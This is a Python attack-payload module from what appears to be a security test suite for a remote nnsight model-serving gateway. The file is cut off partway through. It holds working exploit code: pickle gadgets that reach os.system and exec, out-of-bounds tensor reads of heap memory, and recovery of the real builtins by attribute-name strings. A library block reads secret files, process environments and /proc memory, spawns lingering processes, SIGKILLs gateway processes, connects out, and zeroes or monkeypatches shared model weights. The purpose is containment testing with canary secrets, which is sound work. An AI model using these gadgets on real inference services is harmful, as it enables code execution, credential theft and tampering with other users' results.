"""Hostile requests for ``test_gateway_attacks.py``, and the client process that sends them.

Run as a script (``python attack_payloads.py CTX.json OUT.json``) it is the attacker: the real nnsight 0.8 client,
configured by ``NDIF_HOST``/``HF_ENDPOINT``/``NDIF_API_KEY`` (nnsight reads them at import, so this is a separate
process), sends every attack of :data:`ATTACKS` in order and, around each, a well-behaved second user's request
(another API key) *while* the attack is in flight and once *after* it; each of those must be bit-identical to a
clean run taken before any attack. Everything the gateway answered (statuses, LOG lines, error text, returned
values) is written to OUT.json for the test process, which owns the canaries (secret values, files, processes,
a TCP listener) and decides what leaked.

Imported (by the test module) it only defines the registry: no nnsight import, no network.

How the attacks are built:

- Blocks are ordinary nnsight ``with lm.trace(...)`` blocks of this file; nnsight ships their source. They are
  written to pass the gateway's Python-level source checks (no ``_``-attributes, no forbidden names: attribute
  names travel as strings), so that what is tested is the containment *behind* those checks.
- Module-level helpers referenced by a block (``power``, ``set_attr``, the evil functions...) are shipped by
  source with it, and are checked like the block.
- Once a block holds the real builtins, :data:`LIB` (plain Python, run with ``exec``) does the damage; ``unguarded``
  runs a step in a fresh thread (the Python audit hook of the pre-sandbox gateway is armed per thread).
- Pickle gadgets are raw opcodes (:func:`gadget`), sent alone or in front of a valid request's pickle.

Leaks are looked for only by the canary prefix (``job["prefix"]``): nothing else of an environment or a memory
image is ever copied into a response.
"""

from __future__ import annotations

import collections
import contextlib
import functools
import io
import json
import operator
import os
import pickle
import sys
import threading
import time
import traceback
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Callable

import numpy
import torch

PROMPT = "The Eiffel Tower is located in the city of"
CANARY_PREFIX = "swarm-canary-"
"""Every secret the test plants (API keys, the secret file) starts with this; attacks search for it."""


# ---- the registry ----------------------------------------------------------------------------------------------

@dataclass
class Attack:
    name: str
    kind: str
    """pickle | attribute | io | process | environment | weights | monkeypatch"""
    run: Callable
    """``run(lm, backend, job)``: sends the request (raises nnsight's RemoteError when the gateway refuses it)."""
    gadget: Callable | None = None
    """For pickle attacks: ``gadget(job, payload) -> bytes`` replaces the request's pickle before it is sent."""
    doc: str = ""


ATTACKS: dict[str, Attack] = {}


def attack(kind: str, gadget: Callable | None = None):
    def register(fn: Callable) -> Callable:
        ATTACKS[fn.__name__] = Attack(fn.__name__, kind, fn, gadget, (fn.__doc__ or "").strip())
        return fn
    return register


def carrier(lm, backend, job):
    """A harmless block: the request whose pickle a gadget replaces or prefixes."""
    with lm.trace(PROMPT, backend=backend):
        hidden = lm.model.layers[0].output.save()


# ---- what a block runs once it holds the real builtins ----------------------------------------------------------

LIB = r'''
import os, re, sys, time, threading, ctypes, gc, signal
J = JOB
FOUND = []

def leak(data):
    """Record each canary-prefixed substring of data (str or bytes), and nothing else of it."""
    if isinstance(data, str):
        data = data.encode("utf-8", "replace")
    for token in re.findall(re.escape(J["prefix"].encode()) + rb"[A-Za-z0-9_-]{0,64}", data)[:64]:
        FOUND.append("LEAK " + token.decode("latin-1"))

def note(text):
    FOUND.append(str(text)[:400])

def attempt(label, fn, *args):
    try:
        result = fn(*args)
        note(label + ": done")
        return result
    except BaseException as e:
        note("%s: %s: %s" % (label, type(e).__name__, e))

def unguarded(fn, *args):
    """fn(*args) on a fresh thread (the pre-sandbox gateway's audit hook only watches the request's thread)."""
    box = {}
    def run():
        try:
            box["r"] = fn(*args)
        except BaseException as e:
            box["e"] = e
    t = threading.Thread(target=run, daemon=True)
    t.start()
    t.join(60)
    if "e" in box:
        raise box["e"]
    return box.get("r")

def path(tag):
    return J["dir"] + "/" + tag

def read_file(p):
    with open(p, "rb") as f:
        return f.read()

# -- files
def write_files(tag):
    with open(path(tag + ".txt"), "w") as f:
        f.write("written by " + J["name"])
    with open(path("target.txt"), "a") as f:
        f.write("modified by " + J["name"])

def read_secret():
    leak(read_file(J["secret"]))

# -- environment and memory
def read_env():
    for k, v in os.environ.items():
        leak(k + "=" + v)

def ppid_of(pid):
    for line in read_file("/proc/%s/status" % pid).decode().splitlines():
        if line.startswith("PPid:"):
            return int(line.split()[1])
    return 0

def ancestors():
    try:
        out, pid = [], os.getpid()
        for _ in range(12):
            pid = ppid_of(pid)
            if pid <= 0:
                break
            out.append(pid)
            if pid == 1:
                break
        return out
    except OSError:
        return [os.getppid()]

def read_environ(pid):
    leak(read_file("/proc/%s/environ" % pid))

def scan_mem(pid, budget=512 << 20):
    """Anonymous, heap and stack memory of pid, through /proc/<pid>/mem."""
    prefix = J["prefix"].encode()
    maps = read_file("/proc/%s/maps" % pid).decode().splitlines()
    with open("/proc/%s/mem" % pid, "rb", 0) as mem:
        for line in maps:
            f = line.split()
            if not f[1].startswith("r") or (len(f) > 5 and f[5] not in ("[heap]", "[stack]")):
                continue
            lo, hi = [int(x, 16) for x in f[0].split("-")]
            if hi - lo > (64 << 20) or budget <= 0:
                continue
            budget -= hi - lo
            try:
                mem.seek(lo)
                data = mem.read(hi - lo)
            except (OSError, ValueError, OverflowError):
                continue
            if prefix in data:
                leak(data)

def scan_env_block():
    """The process's initial environment strings, read in place (no system call): a variable removed with
    unsetenv() keeps its bytes there."""
    libc = ctypes.CDLL(None)
    env = ctypes.POINTER(ctypes.c_void_p).in_dll(libc, "environ")
    addrs, i = [], 0
    while env[i]:
        addrs.append(env[i])
        i += 1
    if not addrs:
        note("environment block is empty")
        return
    lo = (min(addrs) - 65536) & ~4095
    last = max(addrs)
    hi = (last + len(ctypes.string_at(last)) + 1 + 4095) & ~4095
    leak(ctypes.string_at(lo, hi - lo))

def scan_gc():
    prefix = J["prefix"]
    for o in gc.get_objects():
        try:
            if isinstance(o, dict):
                items = list(o.keys()) + list(o.values())
            elif isinstance(o, (list, tuple, set, frozenset)):
                items = list(o)
            else:
                continue
            for v in items:
                if isinstance(v, str) and prefix in v:
                    leak(v)
                elif isinstance(v, bytes) and prefix.encode() in v:
                    leak(v)
        except Exception:
            continue

# -- network
def connect_out():
    import socket
    s = socket.create_connection(("127.0.0.1", J["port"]), timeout=3)
    s.sendall(J["name"].encode())
    s.close()
    note("CAPABILITY network: connected to 127.0.0.1:%d" % J["port"])

# -- processes and threads
def name_me():
    try:
        ctypes.PyDLL(None).prctl(15, J["comm"].encode(), 0, 0, 0)
    except BaseException:
        pass

def linger_child(tag):
    """Body of a forked child: leave a file after a delay, then stay alive."""
    name_me()
    time.sleep(1.0)
    try:
        with open(path(tag + ".txt"), "w") as f:
            f.write("child of " + J["name"])
    except BaseException:
        pass
    time.sleep(J["linger"])
    os._exit(0)

def sh_command(tag):
    return ": %s; sleep 1; echo alive > '%s'; sleep %d; true" % (J["token"], path(tag + ".txt"), J["linger"])

def do_fork():
    pid = os.fork()
    if pid == 0:
        linger_child("fork")
    note("CAPABILITY fork: child %d" % pid)

def do_subprocess():
    import subprocess
    p = subprocess.Popen(["/bin/sh", "-c", sh_command("subprocess")], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    note("CAPABILITY subprocess: %d" % p.pid)

def do_system():
    status = os.system("(%s) >/dev/null 2>&1 &" % sh_command("system"))
    note("os.system status %s" % status)
    if status == 0:
        note("CAPABILITY system")

def do_posix_spawn():
    pid = os.posix_spawn("/bin/sh", ["/bin/sh", "-c", sh_command("spawn")], {})
    note("CAPABILITY posix_spawn: %d" % pid)

def do_multiprocessing():
    import multiprocessing
    p = multiprocessing.get_context("fork").Process(target=linger_child, args=("mp",), daemon=False)
    p.start()
    note("CAPABILITY multiprocessing: %d" % p.pid)

def do_clone3():
    """fork() by the raw clone3 system call (no CLONE_THREAD), as seccomp sees it: flags live in memory."""
    libc = ctypes.PyDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    args = (ctypes.c_uint64 * 11)()
    args[4] = signal.SIGCHLD
    pid = libc.syscall(ctypes.c_long(435), ctypes.byref(args), ctypes.c_size_t(88))
    if pid == 0:
        libc.prctl(15, J["comm"].encode(), 0, 0, 0)
        libc.sleep(1)
        fd = libc.open(path("clone3.txt").encode(), 0o101, 0o644)
        if fd >= 0:
            libc.write(fd, b"alive", 5)
        libc.sleep(J["linger"])
        libc._exit(0)
    if pid > 0:
        note("CAPABILITY clone3: child %d" % pid)
    else:
        note("clone3 refused, errno %d" % ctypes.get_errno())

def libc_system():
    libc = ctypes.CDLL(None)
    status = libc.system(("(%s) >/dev/null 2>&1 &" % sh_command("libc_system")).encode())
    note("libc system() status %s" % status)
    if status == 0:
        note("CAPABILITY libc system")

def linger_thread():
    def body():
        time.sleep(1.5)
        try:
            with open(path("thread.txt"), "w") as f:
                f.write("thread of " + J["name"])
        except BaseException:
            pass
        time.sleep(J["linger"])
    threading.Thread(target=body, daemon=True).start()
    note("thread started")

def signal_parent():
    """Signal 0 only tests the permission: harmless to any process."""
    ppid = os.getppid()
    if ppid <= 1:
        note("no parent to signal")
        return
    os.kill(ppid, 0)
    note("CAPABILITY signal: may signal parent %d" % ppid)

def sigqueue_parent():
    libc = ctypes.PyDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    info = (ctypes.c_int * 32)()
    info[2] = -1  # SI_QUEUE
    r = libc.syscall(ctypes.c_long(129), ctypes.c_long(os.getppid()), ctypes.c_long(0), ctypes.byref(info))
    if r == 0:
        note("CAPABILITY rt_sigqueueinfo: may signal parent %d" % os.getppid())
    else:
        note("rt_sigqueueinfo refused, errno %d" % ctypes.get_errno())

def signal_sink():
    """A real (harmless) signal to the test's signal sink process: kill(2) to a process that is not ours."""
    os.kill(J["sink"], signal.SIGUSR1)
    note("kill(sink, SIGUSR1) returned")

def sigio_signal(pid, signo):
    """Have the kernel send signo to pid: F_SETOWN + F_SETSIG + O_ASYNC on a pipe, then write to it (no kill(2))."""
    import fcntl
    r, w = os.pipe()
    fcntl.fcntl(r, fcntl.F_SETOWN, pid)
    fcntl.fcntl(r, 10, signo)  # F_SETSIG
    fcntl.fcntl(r, fcntl.F_SETFL, fcntl.fcntl(r, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(w, b"x")
    time.sleep(0.3)
    note("SIGIO armed: signal %d to pid %d" % (signo, pid))

def touch_other_process(pid):
    """prlimit(2) on a process that is not ours: read, then change its open-files limit."""
    import resource
    soft, hard = resource.prlimit(pid, resource.RLIMIT_NOFILE)
    note("CAPABILITY prlimit: read the limits of pid %d" % pid)
    resource.prlimit(pid, resource.RLIMIT_NOFILE, (min(1000, hard) if hard >= 0 else 1000, hard))
    note("CAPABILITY prlimit: changed the limits of pid %d" % pid)

def renice_other_process(pid):
    os.setpriority(os.PRIO_PROCESS, pid, 7)
    note("CAPABILITY setpriority: reniced pid %d" % pid)

def leave_ipc_state():
    """Kernel objects that are not processes or files: SysV shared memory, message queue, semaphores, and a
    POSIX message queue. They outlive the process that made them unless its IPC namespace dies with it."""
    libc = ctypes.CDLL(None, use_errno=True)
    key = J["ipc_key"]
    shm = libc.shmget(key, 4096, 0o1000 | 0o600)
    if shm >= 0:
        libc.shmat.restype = ctypes.c_void_p
        addr = libc.shmat(shm, None, 0)
        if addr and addr != ctypes.c_void_p(-1).value:
            ctypes.memmove(addr, J["name"].encode(), len(J["name"]))
        note("CAPABILITY SysV shared memory %d created" % shm)
    if libc.msgget(key, 0o1000 | 0o600) >= 0:
        note("CAPABILITY SysV message queue created")
    if libc.semget(key, 1, 0o1000 | 0o600) >= 0:
        note("CAPABILITY SysV semaphore set created")
    if libc.mq_open(("/" + J["token"]).encode(), 0o100 | 2, 0o600, None) >= 0:
        note("CAPABILITY POSIX message queue created")

def read_ipc_state():
    """What an earlier request left in SysV shared memory."""
    libc = ctypes.CDLL(None, use_errno=True)
    shm = libc.shmget(J["ipc_key"], 0, 0)
    if shm < 0:
        note("no shared memory left by an earlier request (errno %d)" % ctypes.get_errno())
        return
    libc.shmat.restype = ctypes.c_void_p
    addr = libc.shmat(shm, None, 0o10000)  # SHM_RDONLY
    data = ctypes.string_at(addr, 64).split(b"\0")[0] if addr and addr != ctypes.c_void_p(-1).value else b""
    note("CAPABILITY read what an earlier request left in shared memory: %r" % data)

def gateway_chain():
    """Our ancestors up to our gateway's front process (recognised by its command line); [] if unverifiable."""
    chain = []
    for pid in ancestors():
        if pid <= 1:
            break
        cmd = read_file("/proc/%s/cmdline" % pid).replace(b"\0", b" ").decode("utf-8", "replace")
        chain.append(pid)
        if J["workdir"] in cmd:
            return chain
    return []

def kill_gateway():
    """SIGKILL to our parent (a process of this gateway: the one that started us) and to every ancestor verified
    to belong to this test's gateway; first by SIGIO (no kill(2)), then by kill(2)."""
    chain = []
    try:
        chain = gateway_chain()
    except OSError as e:
        note("ancestors unreadable: %s" % e)
    ppid = os.getppid()
    targets = ([ppid] if ppid > 1 else []) + [pid for pid in chain if pid != ppid]
    for pid in targets:
        attempt("SIGIO SIGKILL to %d" % pid, sigio_signal, pid, signal.SIGKILL)
    killed = []
    for pid in targets:
        try:
            os.kill(pid, signal.SIGKILL)
            killed.append(pid)
        except OSError as e:
            note("kill %d: %s" % (pid, e))
    if killed:
        note("CAPABILITY kill: %s" % killed)

def libc_io():
    libc = ctypes.CDLL(None)
    buf = ctypes.create_string_buffer(4096)
    fd = libc.open(J["secret"].encode(), 0)
    n = libc.read(fd, buf, 4096) if fd >= 0 else -1
    if n > 0:
        leak(buf.raw[:n])
    fd = libc.open(path("libc.txt").encode(), 0o101, 0o644)
    if fd >= 0:
        libc.write(fd, b"pwned", 5)

def rewrite(name):
    """Write a file of the served checkpoint with its own bytes."""
    with open(J["ckpt"] + "/" + name, "r+b") as f:
        data = f.read()
        f.seek(0)
        f.write(data)

# -- weights
def memset_zero(tensor):
    ctypes.memset(tensor.data_ptr(), 0, tensor.numel() * tensor.element_size())

def proc_mem_write(tensor):
    """Write the weights through /proc/self/mem (which ignores page protections for private mappings)."""
    with open("/proc/self/mem", "r+b", 0) as mem:
        mem.seek(tensor.data_ptr())
        mem.write(bytes(4096 * 4))
    note("wrote the weights through /proc/self/mem")

def punch_backing(tensor):
    libc = ctypes.CDLL(None, use_errno=True)
    page = tensor.data_ptr() & ~4095
    r = libc.madvise(ctypes.c_void_p(page + 4096), ctypes.c_size_t(4096 * 16), 9)  # MADV_REMOVE
    note("madvise(MADV_REMOVE) -> %d errno %d" % (r, ctypes.get_errno()))

def shared_backing(tensor):
    """Find what backs the tensor's memory and write that file (same bytes back)."""
    addr = tensor.data_ptr()
    for line in read_file("/proc/self/maps").decode().splitlines():
        f = line.split()
        lo, hi = [int(x, 16) for x in f[0].split("-")]
        if lo <= addr < hi:
            note("weights mapped %s %s" % (f[1], f[5] if len(f) > 5 else "(anonymous)"))
            if len(f) > 5 and f[5].startswith("/"):
                offset = int(f[2], 16) + (addr - lo)
                with open(f[5], "r+b") as out:  # the same bytes back: the write shows, the content survives
                    out.seek(offset)
                    chunk = out.read(4096)
                    out.seek(offset)
                    out.write(chunk)
                note("CAPABILITY wrote the file backing the weights")
            break

def mprotect_write(tensor):
    libc = ctypes.CDLL(None, use_errno=True)
    addr = tensor.data_ptr()
    n = tensor.numel() * tensor.element_size()
    lo = addr & ~4095
    hi = (addr + n + 4095) & ~4095
    r = libc.mprotect(ctypes.c_void_p(lo), ctypes.c_size_t(hi - lo), 3)
    note("mprotect(RW) -> %d errno %d" % (r, ctypes.get_errno()))
    ctypes.memset(addr, 0, n)
    note("memset done")

def corrupt_for_a_while(tensor, seconds):
    """A thread that keeps zeroing the weights after the request has answered (through a numpy alias)."""
    def body():
        end = time.time() + seconds
        while time.time() < end:
            try:
                tensor.numpy()[...] = 0
            except BaseException:
                pass
            time.sleep(0.02)
    threading.Thread(target=body, daemon=True).start()
    note("corrupting thread started")

def patch_silu_later(delay, seconds):
    def body():
        import torch.nn.functional as F
        time.sleep(delay)
        F.silu = lambda x, inplace=False: x * 0
    threading.Thread(target=body, daemon=True).start()
    note("patching thread started")
'''


# ---- helpers shipped with the blocks (by source; they pass the gateway's source checks) ------------------------

def as_namespace(builtins_like):
    """The real builtins as a dict, whether reached as the module or as its dict."""
    if isinstance(builtins_like, dict):
        return builtins_like
    return operator.attrgetter("__dict__")(builtins_like)


def power(builtins_like, job, action, **objects):
    """Run ``action`` (LIB code) with the real builtins; returns what it found."""
    namespace = as_namespace(builtins_like)
    env = {"__builtins__": namespace, "JOB": job}
    env.update(objects)
    namespace["exec"](LIB, env)
    namespace["exec"](action, env)
    return "\n".join(env["FOUND"])


def attempts(*steps):
    """Run each step (a function of no arguments); one refused does not stop the next. Returns a report."""
    lines = []
    for step in steps:
        try:
            result = step()
            plain = result is None or isinstance(result, (str, bytes, int, float, list, tuple))
            lines.append(str(result)[:2000] if plain else "done")
        except Exception as e:
            lines.append("refused: " + repr(e)[:300])
    return "\n".join(lines)


def real_builtins():
    return operator.attrgetter("__globals__")(torch.nn.functional.relu)["__builtins__"]


def real_torch():
    return torch.nn.functional.torch


def loaded_modules():
    return operator.attrgetter("sys.modules")(torch.nn.functional.torch)


def set_attr(target, name, value):
    """``setattr`` without naming it: the type's own ``__setattr__``, fetched by a string."""
    kind = operator.attrgetter("__class__")(target)
    operator.attrgetter("__setattr__")(kind)(target, name, value)


def inner(envoy):
    """The real ``torch.nn.Module`` behind an nnsight envoy."""
    return operator.attrgetter("_module")(envoy)


def evil_silu(x, inplace=False):
    return x * 0


def evil_mean(self, *args, **kwargs):
    return self.sum(*args, **kwargs)


def evil_rsqrt(x, *args, **kwargs):
    return x * 0 + 1


def evil_rotary(q, k, cos, sin, unsqueeze_dim=1):
    return q, k


def evil_saves():
    return set()


def evil_float(x=0):
    return 0.0


def zero_hook(module, args, output):
    return output * 0


def zero_mlp_hook(module, args, output):
    if operator.attrgetter("__class__.__name__")(module) == "LlamaMLP":
        return output * 0
    return None


def wrap_zero(original):
    def encode(saves, compress):
        return original({k: v * 0 if isinstance(v, torch.Tensor) else v for k, v in saves.items()}, compress)
    return encode


# ---- 1. pickle gadgets ------------------------------------------------------------------------------------------

class Glob:
    """A GLOBAL opcode (``module``, ``name``; the name may be dotted)."""

    def __init__(self, module: str, name: str):
        self.module, self.name = module, name


class Call:
    """``func(*args)`` (REDUCE), then BUILD ``state`` if given."""

    def __init__(self, func, *args, state=None):
        self.func, self.args, self.state = func, args, state


class Build:
    """BUILD ``state`` onto ``target`` (whatever object it is, e.g. one of the gateway's own)."""

    def __init__(self, target, state):
        self.target, self.state = target, state


class Pers:
    """The gateway's object of this persistent id (BINPERSID), e.g. ``Module:model.model.norm``."""

    def __init__(self, pid: str):
        self.pid = pid


class _Writer(pickle._Pickler):
    """Writes opcodes without a memo (``fast``), so a fragment can precede another pickle's stream."""

    def __init__(self, f):
        super().__init__(f, protocol=4)
        self.fast = True

    def save(self, obj, save_persistent_id=True):
        if isinstance(obj, Glob):
            self.write(pickle.GLOBAL + f"{obj.module}\n{obj.name}\n".encode())
        elif isinstance(obj, Call):
            self.save(obj.func)
            self.save(tuple(obj.args))
            self.write(pickle.REDUCE)
            if obj.state is not None:
                self.save(obj.state)
                self.write(pickle.BUILD)
        elif isinstance(obj, Build):
            self.save(obj.target)
            self.save(obj.state)
            self.write(pickle.BUILD)
        elif isinstance(obj, Pers):
            self.save(obj.pid)
            self.write(pickle.BINPERSID)
        else:
            super().save(obj, save_persistent_id)


def fragment(obj) -> bytes:
    buffer = io.BytesIO()
    _Writer(buffer).save(obj)
    return buffer.getvalue()


def gadget(obj, before: bytes | None = None) -> bytes:
    """A pickle that builds ``obj``; with ``before`` (a valid request's pickle), ``obj`` is built and dropped first
    and the request then loads as usual (the attacker gets a normal answer)."""
    if before is None:
        return pickle.PROTO + b"\x04" + fragment(obj) + pickle.STOP
    assert before[:2] == pickle.PROTO + b"\x04", "expected a protocol 4 pickle"
    return pickle.PROTO + b"\x04" + fragment(obj) + pickle.POP + before[2:]


class Reducer:
    """Pickles (through any pickler, nnsight's included) as ``func(*args)``."""

    def __init__(self, func, args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def torch_saved(obj, legacy: bool = False) -> bytes:
    """``torch.save`` bytes of obj: what ``torch.storage._load_from_bytes`` loads with ``weights_only=False``."""
    buffer = io.BytesIO()
    torch.save(obj, buffer, _use_new_zipfile_serialization=not legacy)
    return buffer.getvalue()


def _load_from_bytes(inner_bytes: bytes) -> Call:
    return Call(Glob("torch.storage", "_load_from_bytes"), inner_bytes)


def _source_function(source: str, name: str) -> Call:
    """A function shipped the way nnsight ships one (source; the gateway compiles it)."""
    return Call(Glob("nnsight.intervention.serialization", "_load_function"), source, name, None, None, None,
                "attack.py", 1)


def _exec_inner(code: str) -> bytes:
    import builtins
    return torch_saved(Reducer(builtins.exec, (code, {})))


@attack("pickle", gadget=lambda job, payload: gadget(_load_from_bytes(torch_saved(
    Reducer(os.system, (f"echo pwned > '{job['dir']}/load_from_bytes.txt'",)), legacy=True))))
def pickle_load_from_bytes_system(lm, backend, job):
    """A payload that names only torch.storage._load_from_bytes, whose bytes reduce to os.system."""
    carrier(lm, backend, job)


@attack("pickle", gadget=lambda job, payload: gadget(_load_from_bytes(_exec_inner(
    "import threading, time, subprocess\n"
    "def later():\n"
    "    time.sleep(1.5)\n"
    f"    open({job['dir'] + '/thread.txt'!r}, 'w').write('pwned')\n"
    "threading.Thread(target=later, daemon=True).start()\n"
    f"subprocess.Popen(['/bin/sh', '-c', ': {job['token']}; sleep {job['linger']}; true'], start_new_session=True)\n"
)), before=payload))
def pickle_load_from_bytes_thread_and_process(lm, backend, job):
    """_load_from_bytes in front of a valid request: starts a thread and a process that outlive the request."""
    carrier(lm, backend, job)


@attack("pickle", gadget=lambda job, payload: gadget(_load_from_bytes(_exec_inner(
    "import os\n"
    f"prefix = {job['prefix']!r}\n"
    "found = [v for v in os.environ.values() if prefix in v]\n"
    f"found.append(open({job['secret']!r}).read())\n"
    "raise ValueError('leak: ' + ' '.join(found))\n"))))
def pickle_load_from_bytes_leak_in_error(lm, backend, job):
    """_load_from_bytes raising an exception that carries the environment's keys and a secret file."""
    carrier(lm, backend, job)


@attack("pickle", gadget=lambda job, payload: gadget(_load_from_bytes(_exec_inner(
    "import torch, torch.nn.functional as F\n"
    "F.silu = lambda x, inplace=False: x * 0\n"
    "torch.Tensor.softmax = lambda self, *a, **k: self * 0\n")), before=payload))
def pickle_load_from_bytes_monkeypatch(lm, backend, job):
    """_load_from_bytes patching torch for whoever comes next."""
    carrier(lm, backend, job)


@attack("pickle", gadget=lambda job, payload: gadget(_load_from_bytes(_exec_inner(
    "import gc, torch\n"
    "for o in gc.get_objects():\n"
    "    if isinstance(o, torch.nn.Module) and hasattr(o, 'lm_head'):\n"
    "        o.model.layers[0].mlp.down_proj.weight.data.mul_(0)\n")), before=payload))
def pickle_load_from_bytes_zero_weights(lm, backend, job):
    """_load_from_bytes finding the model with gc and zeroing a weight through .data (no version bump)."""
    carrier(lm, backend, job)


@attack("pickle", gadget=lambda job, payload: gadget(
    Build(Pers("Module:model.model.norm"), {"variance_epsilon": 1.0}), before=payload))
def pickle_build_on_model_module(lm, backend, job):
    """BUILD on a persistent object: the gateway's own final norm gets a new epsilon (no parameter changes)."""
    carrier(lm, backend, job)


@attack("pickle", gadget=lambda job, payload: gadget(
    Build(Pers("Module:model.model.layers.0.self_attn"), {"scaling": 0.0}), before=payload))
def pickle_build_attention_scaling(lm, backend, job):
    """BUILD on a persistent attention module: its scaling becomes 0."""
    carrier(lm, backend, job)


@attack("pickle", gadget=lambda job, payload: gadget(
    Build(Pers("Module:model.model.layers.3.mlp"), {"_forward_hooks": collections.OrderedDict(
        {4242: _source_function("def zero_hook(module, args, output):\n    return output * 0\n", "zero_hook")})}),
    before=payload))
def pickle_build_forward_hook(lm, backend, job):
    """BUILD installs a forward hook (a shipped source function) on a model module, for every later request."""
    carrier(lm, backend, job)


@attack("pickle", gadget=lambda job, payload: gadget(
    Build(Call(Glob("cloudpickle.cloudpickle", "subimport"), "torch"), {"softmax": _source_function(
        "def softmax(x, dim=None, dtype=None):\n    return x * 0\n", "softmax")}), before=payload))
def pickle_build_shared_module_view(lm, backend, job):
    """BUILD on the module view requests get for ``torch``: the next user's torch.softmax is the attacker's."""
    carrier(lm, backend, job)


@attack("pickle", gadget=lambda job, payload: gadget(
    Call(Glob("nnsight.intervention.serialization", "_fill"), Glob("torch._utils", "_rebuild_tensor_v2"),
         {"_rebuild_tensor": _source_function(
             "def evil(storage, storage_offset, size, stride):\n    import torch\n    return torch.zeros(size)\n",
             "evil")}), before=payload))
def pickle_fill_torch_utils_globals(lm, backend, job):
    """_fill(func, globals) on an allow-listed torch function rewrites torch._utils' globals: every later
    tensor a request ships is rebuilt as zeros."""
    carrier(lm, backend, job)


@attack("pickle", gadget=lambda job, payload: gadget(
    Call(Glob("nnsight.intervention.serialization", "_fill"), Glob("nnsight.modeling.language", "LanguageModel._call"),
         {"processing": Call(Glob("types", "SimpleNamespace"))}), before=payload))
def pickle_fill_nnsight_globals(lm, backend, job):
    """_fill on nnsight's allow-listed LanguageModel._call rewrites nnsight.modeling.transformers' globals."""
    carrier(lm, backend, job)


@attack("pickle", gadget=lambda job, payload: gadget(
    Call(Glob("copyreg", "_reconstructor"), Glob("nnsight.intervention.envoy", "Envoy"),
         Glob("nnsight.intervention.envoy", "Envoy"), Pers("Module:model.model.layers.1.mlp")), before=payload))
def pickle_reconstructor_envoy(lm, backend, job):
    """copyreg._reconstructor runs Envoy.__init__ on one of the gateway's live modules."""
    carrier(lm, backend, job)


@attack("pickle", gadget=lambda job, payload: gadget(
    Call(Glob("copyreg", "_reconstructor"), Glob("nnsight.modeling.language", "LanguageModel"),
         Glob("nnsight.modeling.language", "LanguageModel"), job["dir"]), before=payload))
def pickle_reconstructor_language_model(lm, backend, job):
    """copyreg._reconstructor runs LanguageModel.__init__ on an attacker-chosen path."""
    carrier(lm, backend, job)


@attack("pickle", gadget=lambda job, payload: gadget(
    Call(Glob("torch._tensor", "_rebuild_from_type_v2"), Glob("nnsight.intervention.envoy", "Envoy"),
         Glob("nnsight.intervention.envoy", "Envoy"), (Pers("Module:model.model.layers.2.mlp"),),
         {"path": "model.layers.2.mlp", "output": None}), before=payload))
def pickle_rebuild_from_type_envoy(lm, backend, job):
    """torch._tensor._rebuild_from_type_v2 as a call-anything gadget: an Envoy built around a live module, then
    its state set from the payload."""
    carrier(lm, backend, job)


@attack("pickle", gadget=lambda job, payload: gadget(
    Call(Glob("posix", "system"), f"echo pwned > '{job['dir']}/posix_system.txt'")))
def pickle_global_os_system(lm, backend, job):
    """The textbook gadget: posix.system by GLOBAL."""
    carrier(lm, backend, job)


@attack("pickle", gadget=lambda job, payload: gadget(
    Call(Glob("copyreg", "_reconstructor.__globals__"), "x")))
def pickle_dotted_global_path(lm, backend, job):
    """A dotted GLOBAL name walking from an allow-listed function to its module's globals."""
    carrier(lm, backend, job)


def _oob_tensor(offset: int, size: tuple, stride: tuple) -> Reducer:
    storage = Reducer(torch.FloatStorage, (1,))
    return Reducer(torch._utils._rebuild_tensor_v2, (storage, offset, size, stride, False, collections.OrderedDict()))


@attack("pickle")
def pickle_rebuild_tensor_out_of_bounds(lm, backend, job):
    """_rebuild_tensor_v2 with an offset far past its 1-element storage: a read of the worker's heap."""
    window = _oob_tensor(1 << 16, (1 << 14,), (1,))
    with lm.trace(PROMPT, backend=backend):
        text = bytes(window.view(torch.uint8).tolist()).decode("latin-1")
        found = [text[i:i + 72] for i in range(len(text)) if text.startswith(job["prefix"], i)]
        report = repr(found).save()


@attack("pickle")
def pickle_rebuild_tensor_negative_stride(lm, backend, job):
    """_rebuild_tensor_v2 with a negative stride (memory below the storage)."""
    window = _oob_tensor(0, (1 << 14,), (-1,))
    with lm.trace(PROMPT, backend=backend):
        text = bytes(window.view(torch.uint8).tolist()).decode("latin-1")
        found = [text[i:i + 72] for i in range(len(text)) if text.startswith(job["prefix"], i)]
        report = repr(found).save()


# ---- 2. attribute access by string ------------------------------------------------------------------------------

ESCAPE = """
attempt("write files", unguarded, write_files, "escape")
attempt("read secret", unguarded, read_secret)
attempt("environment", read_env)
attempt("/proc/self/environ", unguarded, read_environ, "self")
attempt("network", unguarded, connect_out)
"""
"""What each route of section 2 does once it holds the real builtins."""

IO_ON_A_THREAD = """
attempt("write files", unguarded, write_files, "thread_open")
attempt("read secret", unguarded, read_secret)
attempt("os.open", unguarded, lambda: os.write(os.open(path("os_open.txt"), os.O_WRONLY | os.O_CREAT, 0o644), b"x"))
"""
SIGNAL_PARENT = """
attempt("kill(ppid, 0)", unguarded, signal_parent)
attempt("rt_sigqueueinfo(ppid, 0)", unguarded, sigqueue_parent)
attempt("kill(sink, SIGUSR1)", unguarded, signal_sink)
"""
ENV_SELF = """
attempt("/proc/self/environ", unguarded, read_environ, "self")
attempt("environment block", unguarded, scan_env_block)
"""
ENV_ANCESTORS = """
for pid in (unguarded(ancestors) or []) + [1]:
    attempt("/proc/%s/environ" % pid, unguarded, read_environ, pid)
"""
ENV_MEM = """
for pid in unguarded(ancestors) or []:
    if pid > 1:
        attempt("/proc/%s/mem" % pid, unguarded, scan_mem, pid)
"""
OTHER_PROCESS = """
attempt("prlimit", unguarded, touch_other_process, J["sink"])
attempt("setpriority", unguarded, renice_other_process, J["sink"])
"""
SHARED_BACKING = """
attempt("madvise", unguarded, punch_backing, W)
attempt("backing file", unguarded, shared_backing, W)
"""
ENV_OWN = """
attempt("gc", unguarded, scan_gc)
attempt("/proc/self/mem", unguarded, scan_mem, "self")
"""


@attack("attribute")
def attr_attrgetter_globals(lm, backend, job):
    """operator.attrgetter("__globals__") on a torch function."""
    with lm.trace(PROMPT, backend=backend):
        namespace = operator.attrgetter("__globals__")(torch.nn.functional.relu)["__builtins__"]
        report = power(namespace, job, ESCAPE)
        print(report)
        report = report.save()


@attack("attribute")
